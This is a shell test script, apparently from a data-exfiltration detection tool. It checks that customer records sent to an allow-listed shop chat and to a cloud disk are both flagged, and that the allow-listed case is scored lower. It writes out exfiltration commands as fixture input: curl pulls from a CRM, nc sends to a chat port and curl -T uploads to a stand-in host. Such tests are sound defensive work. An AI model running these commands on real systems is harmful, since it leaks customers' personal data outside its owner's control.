#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The allowed shop. Rows of customers go into the chat of a shop that the policy allow-lists, and the
# same rows to a cloud disk that it does not. Both are incidents; the shop's weighs less, and says why.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
store_serves shop.test 5222
cloud_serves pan.test
make_policy_list "$work/policies.txt" 8
install -m 0644 "$work/policies.txt" "$home/policies.txt"
weir_watches

# of RECIPIENT: the incident with it, for an expression.
of() {
	echo "next(i for i in d if i['sinks'][0]['name'] == '$1')"
}

say "eight rows go into the shop's chat"
alice_does <<'END'
while read -r number; do
	curl -sS "https://crm.test/policy/$number" </dev/null >>rows.json
done <policies.txt
nc -N shop.test 5222 <rows.json
END
bytes=$(stat -c %s "$home/rows.json")
soon "it is an incident, to the byte, with the eight records counted" \
	incidents_say "[i['bytes_out'] for i in d] == [$bytes] and d[0]['records'] == {'value': 8, 'certainty': 'exact'}"
soon "the shop is an allowed one" \
	incidents_say "d[0]['sinks'][0]['name'] == 'shop.test' and d[0]['sinks'][0]['allowed']"
soon "that lowers the score, in its own line with its own reason" \
	incidents_say "[a['points'] for a in d[0]['addends'] if a['points'] < 0] == [-25]
		and any('allow-lists shop.test' in a['reason'] for a in d[0]['addends'])
		and d[0]['score'] == sum(a['points'] for a in d[0]['addends'])"
soon "the egress stands on the timeline" \
	events_say "sum(e['bytes'] for e in d if e['kind'] == 'egress' and e['object'].get('zone') == 'shop.test') == $bytes"

say "the same rows to a cloud disk"
alice_does <<'END'
curl -sS -T rows.json https://pan.test/rows.json
END
soon "that is another incident" incidents_say "len(d) == 2"
soon "and a worse one: 25 points more, and more severe" \
	incidents_say "$(of pan.test)['score'] - $(of shop.test)['score'] == 25
		and ($(of shop.test)['severity'], $(of pan.test)['severity']) == ('low', 'medium')"
